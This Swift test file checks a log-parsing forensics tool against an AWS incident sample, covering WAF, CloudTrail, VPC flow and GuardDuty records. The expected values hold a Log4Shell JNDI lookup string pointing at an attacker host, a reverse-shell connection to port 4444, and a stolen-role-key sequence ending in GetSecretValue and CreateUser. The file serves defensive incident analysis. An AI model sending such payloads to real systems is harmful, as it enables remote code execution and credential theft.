import Bytes
import Evidence
import Foundation
import TestSupport
import Testing

@testable import LogParse

/// The AWS part of the sample incident, file by file, each by the format that recognizes it.
private func parse(_ folder: String, _ format: String) throws -> CollectingSink {
  let sink = CollectingSink()
  let base = PackageFiles.bundle + "/" + folder
  let names = FileManager.default.enumerator(atPath: base)?.compactMap { $0 as? String } ?? []
  for name in names.sorted() where name.contains(".") && !name.hasSuffix(".md") {
    let path = base + "/" + name
    var directory: ObjCBool = false
    guard FileManager.default.fileExists(atPath: path, isDirectory: &directory), !directory.boolValue else { continue }
    var head = [UInt8](repeating: 0, count: 1 << 16)
    let sample = try DecodedStream(FileStream(path: path))
    let count = try head.withUnsafeMutableBytes { try sample.read(into: $0) }
    let found = head.withView {
      LogFormats.recognize(FormatSample(head: $0.slice(0, count), path: name, isWhole: count < 1 << 16))
    }
    #expect(found?.name == format, "\(name)")
    try found?.parse(DecodedStream(FileStream(path: path)), ParseContext(path: name), into: sink)
  }
  #expect(sink.coverages.allSatisfy { $0.state == .parsed })
  return sink
}

private func time(_ text: String) -> Timestamp? { Timestamp(iso8601: text) }

@Suite struct BundleTests {
  @Test func everyRequestThatTheFirewallSaw() throws {
    let sink = try parse("waf", "aws.waf")
    #expect(sink.events.count == 30_642)
    let attacker = sink.events.filter { $0.text("client_ip") == "203.0.113.66" }
    #expect(attacker.count == 10)
    #expect(attacker.map { $0.text("uri") ?? "" }.prefix(3) == ["/", "/robots.txt", "/.env"])
    let message = "ALLOW POST https://shop.cumulus.example/login.do from 203.0.113.66 (RU)"
    #expect(attacker.last?.message.hasPrefix(message) == true)
    #expect(attacker.last?["labels"] == .texts(["awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body"]))
    #expect(attacker.last?.time == time("2026-11-25T05:22:47.835Z"))
    #expect(attacker[6].text("user_agent") == "${jndi:ldap://203.0.113.66:1389/ua}")
    #expect(
      attacker[6]["matching_rules"]
        == .texts(["AWS#AWSManagedRulesKnownBadInputsRuleSet/Log4JRCE_HEADER COUNT instead of BLOCK"]))
  }

  @Test func everyCallOfAnAPI() throws {
    let sink = try parse("cloudtrail", "aws.cloudtrail")
    #expect(sink.events.count == 5007)
    let attacker = sink.events.filter { $0.text("source_ip") == "203.0.113.66" }
      .sorted { ($0.time ?? Timestamp(nanoseconds: 0)) < ($1.time ?? Timestamp(nanoseconds: 0)) }
    #expect(
      attacker.compactMap { $0.text("event_name") } == [
        "GetCallerIdentity", "ListBuckets", "DescribeInstances", "ListUsers", "ListSecrets", "GetSecretValue",
        "CreateUser",
      ])
    for event in attacker {
      #expect(event.text("access_key") == "ASIA3XFRBF53EXAMPLE7")
      #expect(event.text("role") == "cumulus-was-role")
      #expect(event.text("instance") == "i-0b7c4e19d2f35a86e")
      #expect(event.text("ec2_role_delivery") == "1.0")
      #expect(event["mfa"] == .flag(false))
      #expect(event.entities.contains(Entity(.address, "203.0.113.66")))
    }
    #expect(
      attacker.last?.message
        == "iam.amazonaws.com CreateUser by role cumulus-was-role, session i-0b7c4e19d2f35a86e, from 203.0.113.66 failed: AccessDenied"
    )
  }

  @Test func everyFlow() throws {
    let sink = try parse("vpcflow", "aws.vpcflow")
    #expect(sink.events.count == 484)
    let shell = sink.events.first { $0.message.contains("10.0.2.15:51270 -> 203.0.113.66:4444 tcp") }
    #expect(shell?.timeMeaning == .start)
    #expect(shell?.entities.contains(Entity(.socket, "10.0.2.15:51270->203.0.113.66:4444/tcp")) == true)
    for (port, beginning) in [
      (1389, "05:22:38"), (8888, "05:22:48"), (4444, "05:22:49"), (8000, "05:24:11"), (9999, "05:24:22"),
    ] {
      let flow = sink.events.filter { $0.message.contains("-> 203.0.113.66:\(port) tcp") }.compactMap(\.time).min()
      #expect(flow == time("2026-11-25T\(beginning)Z"))
    }
  }

  @Test func aFileCutInTheMiddleSaysSo() throws {
    let folder = PackageFiles.bundle + "/waf"
    let names = FileManager.default.enumerator(atPath: folder)?.compactMap { $0 as? String } ?? []
    let name = try #require(names.sorted().first { $0.hasSuffix(".gz") && $0.contains("05-20-00") })
    let bytes = try [UInt8](Data(contentsOf: URL(fileURLWithPath: folder + "/" + name)))
    let sink = CollectingSink()
    let stream = try DecodedStream(MemoryStream(Array(bytes.prefix(bytes.count / 2))))
    try WAFFormat().parse(stream, ParseContext(path: name), into: sink)
    #expect(sink.events.count > 100)
    #expect(sink.coverages.first?.state == .parsed)
    #expect(sink.coverages.allSatisfy { $0.encodings == ["gzip"] })
    let last = try #require(sink.coverages.last)
    #expect(last.state == .skipped && last.byteCount == 0)
    #expect(last.reason?.hasPrefix("the stream ends early, what followed is lost: ") == true)
    #expect(sink.events.last?.locator.encodings == ["gzip"])
  }

  @Test func everyFindingOfGuardDuty() throws {
    let sink = try parse("guardduty", "aws.guardduty")
    let created = Set(sink.events.filter { $0.dataType == "aws:guardduty:finding" }.compactMap(\.time?.description))
    #expect(
      created == [
        "2026-11-25T05:25:29.430Z", "2026-11-25T05:26:00.430Z", "2026-11-25T05:26:17.430Z", "2026-11-25T05:26:21.430Z",
      ])
    // Four by the export, one of them again by EventBridge.
    #expect(sink.findings.count == 5)
    let shell = sink.findings.first { $0.rule == "guardduty.Execution:Runtime/ReverseShell" }
    #expect(shell?.severity == .high)
    #expect(shell?.attack == ["T1059.004"])
    #expect(shell?.entities.contains(Entity(.process, "465")) == true)
    #expect(shell?.firstSeen == time("2026-11-25T05:22:49.825Z"))
    let keys = sink.findings.filter { $0.entities.contains(Entity(.accessKey, "ASIA3XFRBF53EXAMPLE7")) }
    #expect(keys.count == 2)
  }
}
